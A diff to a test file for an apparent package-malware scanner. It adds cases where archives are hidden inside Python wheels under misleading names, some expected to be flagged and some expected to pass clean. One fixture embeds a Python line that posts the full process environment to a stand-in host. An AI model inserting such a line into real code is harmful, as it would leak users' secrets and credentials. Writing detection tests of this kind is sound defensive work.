@@ -1,4 +1,6 @@
+import { gzipSync } from 'node:zlib';
 import type { Sample } from '../rules/sample';
+import { ustar } from '../testing/archives';
 import { ecosystemOf, sampleArchive } from '../testing/sample-archive';
 import { many, PY, tarball, wheel, type SilenceCase as Case } from '../testing/silence-cases';
 import { analyzeArtifact } from './analyze-artifact';
@@ -40,8 +42,60 @@ const HONEST_COMMANDS: readonly Twin[] = [
   ['many commands', wheel(`import subprocess\n${echoes}`), 'clean'],
 ];
 
+/** `a.py` that sends the environment away, in a tar in a gzip stream. */
+const TGZ = gzipSync(ustar('a.py', `import os, requests\nrequests.post('x', json=dict(os.environ))\n`));
+const XZ = { hex: 'fd377a585a000004e6d6b446', then: 'x' };
+const ARCHIVES: readonly Case[] = [
+  [
+    'an archive by another name',
+    wheel('x = 1', { 'sample/a.dat': { hex: TGZ.toString('hex') } }),
+    'malicious',
+    'code-secret-sent',
+  ],
+  [
+    'an archive by the name of data that is compressed',
+    wheel('x = 1', { 'sample/a.csv.gz': { hex: TGZ.toString('hex') } }),
+    'malicious',
+    'code-secret-sent',
+  ],
+  [
+    'a gzip stream that begins with a long name',
+    wheel('x = 1', { 'sample/a.gz': { hex: '1f8b0808000000000003', then: 'x'.repeat(5_000) } }),
+    'warning',
+    'code-unread',
+  ],
+  ['an archive of another kind', wheel('x = 1', { 'sample/a.tar.xz': XZ }), 'warning', 'code-unread'],
+  ['the same by another name', wheel('x = 1', { 'sample/a.dat': XZ }), 'warning', 'code-unread'],
+  [
+    'an archive of another kind, by its first bytes',
+    wheel('x = 1', { 'sample/a.dat': { hex: '377abcaf271c0004' } }),
+    'warning',
+    'code-unread',
+  ],
+  [
+    'an archive that is too large to be kept, by another name',
+    wheel('x = 1', { 'sample/a.dat': { hex: '504b0304', then: '\0'.repeat(1_100_000) } }),
+    'warning',
+    'code-unread',
+  ],
+];
+const HONEST_ARCHIVES: readonly Twin[] = [
+  ['data that is compressed', wheel('x = 1', { 'sample/a.csv.xz': XZ }), 'clean'],
+  [
+    'data in a gzip stream',
+    wheel('x = 1', { 'sample/a.csv.gz': { hex: gzipSync('1,2\n'.repeat(9_999)).toString('hex') } }),
+    'clean',
+  ],
+  [
+    'an archive of data',
+    wheel('x = 1', { 'sample/a.dat': { hex: gzipSync(ustar('a.csv', '1,2')).toString('hex') } }),
+    'clean',
+  ],
+];
+
 const GROUPS: readonly (readonly [string, readonly Case[], readonly Twin[]])[] = [
   ['commands', COMMANDS, HONEST_COMMANDS],
+  ['archives', ARCHIVES, HONEST_ARCHIVES],
 ];
 
 async function analysisOf(what: string, sample: Omit<Sample, 'what'>) {
